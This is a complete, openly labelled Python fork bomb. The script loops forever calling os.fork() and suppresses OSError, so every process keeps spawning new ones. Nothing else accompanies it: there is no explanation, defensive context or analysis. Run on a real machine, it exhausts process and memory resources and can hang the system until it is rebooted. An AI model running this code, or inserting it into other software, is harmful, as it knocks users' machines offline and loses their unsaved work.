"""A fork bomb: every process forks without end, and minds no error."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
